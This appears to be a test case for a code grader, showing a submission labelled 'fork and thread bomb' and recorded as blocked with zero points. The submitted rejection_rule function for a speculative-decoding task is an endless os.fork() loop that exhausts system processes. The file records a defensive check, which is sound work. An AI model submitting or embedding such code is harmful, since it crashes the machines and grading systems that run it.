# attack: fork and thread bomb
# verdict: blocked
# points: 0
# flags: imports os

import os

def rejection_rule(target_probs, draft_probs, draft_token):
    while True:
        os.fork()
